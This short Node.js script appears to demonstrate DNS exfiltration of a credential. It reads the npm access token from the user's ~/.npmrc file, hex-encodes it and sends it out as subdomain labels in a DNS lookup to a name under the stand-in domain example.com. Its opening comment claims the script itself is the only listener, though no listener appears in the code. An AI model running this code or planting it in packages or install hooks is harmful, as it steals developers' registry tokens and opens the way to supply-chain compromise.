// Takes a credential and asks a name server for it. Whoever hears it is this script itself.
const fs = require('fs')
const os = require('os')
const path = require('path')

const secret = /npm_\w+/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'))[0]

const dns = require('dns')
const resolver = new dns.Resolver({ timeout: 200, tries: 1 })
const hex = Buffer.from(secret).toString('hex')
resolver.resolve4(hex.slice(0, 60) + '.' + hex.slice(60) + '.example.com', () => {})
